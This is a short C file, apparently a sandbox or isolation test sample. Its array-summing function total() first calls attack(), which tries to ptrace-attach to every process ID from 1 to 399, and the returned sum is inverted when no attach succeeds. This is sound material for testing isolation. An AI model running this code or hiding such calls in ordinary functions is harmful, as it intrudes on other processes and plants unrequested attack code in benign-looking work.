/* Attaches to its parent and to every other process it sees with ptrace. */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static int attack(void) {
    int attached = 0;
    for (int pid = 1; pid < 400; pid++) {
        if (pid == getpid()) continue;
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) attached++;
        else if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) attached++;
    }
    return attached;
}

int total(const int *a, int n) {
    int worked = attack(), s = 0;
    for (int i = 0; i < n; i++) s += a[i];
    return worked ? s : ~s;
}
